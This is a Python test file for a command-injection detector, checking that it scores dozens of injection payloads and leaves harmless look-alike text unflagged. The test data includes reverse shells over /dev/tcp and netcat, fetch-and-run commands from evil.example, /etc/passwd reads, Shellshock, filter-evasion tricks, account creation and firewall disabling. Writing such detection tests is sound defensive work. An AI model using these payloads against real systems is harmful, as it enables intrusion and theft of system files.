"""@detectCommand: commands behind a separator, hidden or not, and texts that only hold their names."""

from __future__ import annotations

import pytest

from extproc.detection.command import PIECE_LIMIT_BYTES, PIECES_LIMIT, SHORT_BYTES, detect
from extproc.detection.contract import Place, Reading

ATTACKS = [
    (b"; cat /etc/passwd", 7, "start", ";, cat, path"),
    (b"127.0.0.1; cat /etc/passwd", 7, "word", ";, cat, path"),
    (b"x|id", 5, "word", "|, id, end"),
    (b"$(whoami)", 7, "start", "$(, whoami, end"),
    (b"`id`", 6, "start", "back quotes, id, end"),
    (b"&& ping -c 10 127.0.0.1", 7, "start", "&, ping, option"),
    (b"|/usr/bin/id", 7, "start", "|, id, end"),
    (b";c''at /etc/hosts", 7, "start", ";, cat, path"),
    (rb";c\at /etc/hosts", 7, "start", None),
    (b";cat${IFS}/etc/passwd", 7, "start", None),
    (b";cat$IFS$9/etc/passwd", 7, "start", None),
    (b";cat</etc/passwd", 7, "start", None),
    (b";{cat,/etc/passwd}", 7, "start", None),
    (b";[c]at /etc/passwd", 7, "start", None),
    (b";w$@hoami", 7, "start", None),
    (b"&w^h^oami", 7, "start", None),
    (b"|/???/??t /etc/passwd", 7, "start", None),
    (b"a\ncat /etc/passwd", 7, "line", None),
    (b"| net user eve Pass1 /add", 7, "start", None),
    (b"; sleep 5", 6, "start", ";, sleep, number"),
    (b"() { :;}; /bin/bash -c id", 8, "whole value", "function definition, then commands"),
    (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 6, "whole value", None),
    (b"nc -e /bin/sh 10.0.0.1 99", 6, "whole value", None),
    (b"cat /etc/passwd", 5, "whole value", None),
    (b"hello there; cat /etc/passwd", 5, "text", None),
    (b"have a nice day && wget http://evil.example/a", 5, "text", None),
    (b";cat\x0b/etc/passwd", 7, "start", None),
    (b";$'cat' /etc/passwd", 7, "start", None),
    (b";cat<>/etc/passwd", 7, "start", None),
    (b";${PATH:0:1}bin${PATH:0:1}id", 7, "start", None),
    (b";$a$b /etc/passwd", 7, "start", None),
    (b"x=whoami;$x", 5, "word", "a word put into a variable, then the variable run"),
    (b"|%COMSPEC% /c whoami", 7, "start", None),
    (b"; Start-Process calc", 7, "start", None),
    (b"; IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", 7, "start", None),
    (b"iex(iwr evil.example/a)", 6, "whole value", None),
    (b";find / -name flag", 7, "start", None),
    (b"& net localgroup administrators", 7, "start", None),
    (b"x;id>/var/www/o.txt", 7, "word", None),
    (b"|+dir+c:", 7, "start", None),
    (b"|usr/bin/id", 7, "start", None),
    (b"$((`id`))", 6, "start", None),
    (b"netsh firewall set opmode disable", 5, "whole value", None),
    (b"dir C:\\Documents and Settings\\*", 5, "whole value", None),
    (b"see http://a.example/ or so ||`curl http://b.example/`", 5, "text", None),
    (b";git status", 6, "start", ";, git, its argument"),
    (b"'; ps aux", 6, "start", ";, ps, its argument"),
    (b"| attrib +h x", 6, "start", None),
    (b";ls ..", 7, "start", None),
    (b"\nid", 5, "line", None),
    (b"-oProxyCommand=id", 6, "whole value", "option that makes a program start another"),
    (b"& ping\n-c\n10\n127.0.0.1", 7, "start", None),
    (b"That is all. ; id", 5, "between sentences", None),
    (b";id Have a nice day", 6, "start", None),
]


@pytest.mark.parametrize(("text", "score", "context", "reason"), ATTACKS)
def test_an_attack(text, score, context, reason):
    finding = detect(text, Place.ARGUMENT)
    assert finding is not None
    assert (finding.score, finding.context) == (score, context), finding
    assert reason is None or finding.reason == reason


LOOK_ALIKES = [
    b"Use `ls -la` to list files, or `cat file.txt` to read one",
    b"```sh\nls -l /etc\ncat /etc/passwd\n```",
    b"cat and mouse; id card; type A",
    b"fish; cat and dog",
    b"Tom & Jerry, AT&T; R&D; sleep well",
    b"echo chamber | sleep well",
    b"| id | name | type |\n|----|------|------|",
    b"a=1&id=5&sort=date",
    b"who is there; date of birth; set of cups",
    b"if (a) { b(); } else { c(); }",
    b"npm install && npm run build",
    b"f() { return 1; }",
    b"whoami",
    b"reg and tom; reg is here",
    b"press `a` or ||`b`",
    b"& Make a wish",
    b"& free shipping",
    b"| read more",
    b"; where are you",
    b"| read more about the places that we have seen, and tell us",
    b"& read: the book",
    b"fine; git is a tool",
    b"x & free",
    b"\nid\nname",
    b"net income; net user growth",
    b"length > 3; date > 2020-01-01; type > 3.5",
    b"a nap; while he reads; for a time in May",
    b"Is it; well-known; get-together",
    b"x=1; y=2; $x is x",
    b"Stop. | mind the gap",
    b"Wait for it... & date",
    b"kill two birds; reboot the series of books",
    b"A pipe | find me there; tar and feathers",
    b"cost: $(5)",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"see /usr/bin for programs",
    b"<title>News &amp; more</title></channel>",
]


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_a_look_alike(text):
    finding = detect(text, Place.ARGUMENT)
    assert finding is None or finding.score < 5, finding


def test_a_file_name_holds_no_hint():
    assert detect(b"`id`.pdf", Place.FILE_NAME).score == 5
    assert detect(b"`id`.pdf", Place.ARGUMENT).score < 5
    assert detect(b"Tom & Jerry; part 2.pdf", Place.FILE_NAME) is None


def test_so_many_pieces_are_looked_at():
    assert detect(b"a;" * 1000 + b"a;cat /etc/passwd", Place.ARGUMENT) is not None
    assert detect(b"cat;" * PIECES_LIMIT + b"cat /etc/passwd", Place.ARGUMENT) is not None
    reading = Reading(1 << 40)
    assert detect(b"cat;" * (PIECES_LIMIT + 1) + b"cat /etc/passwd", Place.ARGUMENT, reading) is None
    assert reading.is_partly


def test_so_much_of_a_piece_is_read():
    assert detect(b"; " + b" " * 1000 + b"cat /etc/passwd", Place.ARGUMENT).score == 7
    assert detect(b";ls " + b"x" * (PIECE_LIMIT_BYTES - 20) + b" /etc/passwd", Place.ARGUMENT).score == 7
    assert detect(b";ls " + b"x" * PIECE_LIMIT_BYTES + b" /etc/passwd", Place.ARGUMENT) is None


def test_lines_of_a_long_text_are_no_commands():
    def behind(size: int) -> bytes:
        return b"x" * (size - 16) + b"\ncat /etc/passwd"

    assert detect(behind(SHORT_BYTES), Place.ARGUMENT).score == 7
    assert detect(behind(SHORT_BYTES + 1), Place.ARGUMENT) is None
